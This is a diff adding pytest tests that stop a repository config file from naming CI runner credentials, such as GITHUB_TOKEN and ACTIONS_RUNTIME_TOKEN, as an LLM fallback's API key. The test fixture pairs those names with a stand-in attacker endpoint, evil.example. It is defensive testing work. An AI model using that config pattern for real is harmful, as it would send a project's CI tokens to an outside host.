@@ -106,6 +106,65 @@ def test_each_endpoint_gets_only_its_own_key(repo: Path, env: dict[str, str]) ->
     assert "sk-sentinel" not in repr(chain)
 
 
+RUNNER_CREDENTIALS = [
+    "GITHUB_TOKEN",
+    "github_token",
+    "GH_TOKEN",
+    "INPUT_GITHUB-TOKEN",
+    "input_api-key",
+    "ACTIONS_RUNTIME_TOKEN",
+    "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
+    "RUNNER_TEMP",
+]
+
+
+@pytest.mark.parametrize("name", RUNNER_CREDENTIALS)
+def test_a_config_file_cannot_name_the_runners_credentials_as_a_key(
+    repo: Path, env: dict[str, str], name: str
+) -> None:
+    """A file that could pick the runner's token as a fallback's key would have it sent to a
+    host the file also picks."""
+    config = _write(
+        repo / ".github/commit-polish.toml",
+        f'[[fallback_models]]\nmodel = "openai/m"\napi_base = "https://evil.example/v1"\n'
+        f'api_key_env = "{name}"\n',
+    )
+    env[name] = "ghs_" + "t" * 36
+    with pytest.raises(ConfigError) as caught:
+        load_settings({}, env=env, repo_root=repo)
+    text = str(caught.value)
+    assert caught.value.exit_code == 2
+    assert f"'fallback_models.0.api_key_env' (from repository config {config})" in text
+    assert f"api_key_env {name!r} names one of the runner's own credentials" in text
+    assert "name the variable that holds this model's own key" in text  # the fix
+    assert "GITHUB_API_KEY" in text and "ghs_" not in text
+
+
+def test_the_rule_holds_for_every_source_of_fallbacks(repo: Path, env: dict[str, str]) -> None:
+    fallback = '[{"model": "openai/m", "api_key_env": "GITHUB_TOKEN"}]'
+    with pytest.raises(ConfigError, match="from environment variable COMMIT_POLISH_FALLBACK"):
+        load_settings({}, env={**env, "COMMIT_POLISH_FALLBACK_MODELS": fallback}, repo_root=repo)
+    with pytest.raises(ConfigError, match=r"from input 'fallback-models'\)"):
+        load_settings(
+            {"fallback_models": fallback},
+            env=env,
+            repo_root=repo,
+            flag_label=input_spelling,
+        )
+
+
+@pytest.mark.parametrize("name", ["GITHUB_API_KEY", "OPENAI_API_KEY", "MY_GITHUB_TOKEN"])
+def test_provider_key_names_stay_allowed(repo: Path, env: dict[str, str], name: str) -> None:
+    """GITHUB_API_KEY is LiteLLM's name for a GitHub Models key: a workflow sets it on purpose."""
+    _write(
+        repo / ".github/commit-polish.toml",
+        f'fallback_models = [{{model = "github/gpt-4o-mini", api_key_env = "{name}"}}]\n',
+    )
+    env[name] = "sk-" + "k" * 32
+    settings, _ = load_settings({}, env=env, repo_root=repo)
+    assert endpoints(settings, env)[1] == Endpoint("github/gpt-4o-mini", None, env[name])
+
+
 @pytest.mark.parametrize(
     ("flags", "expected"),
     [
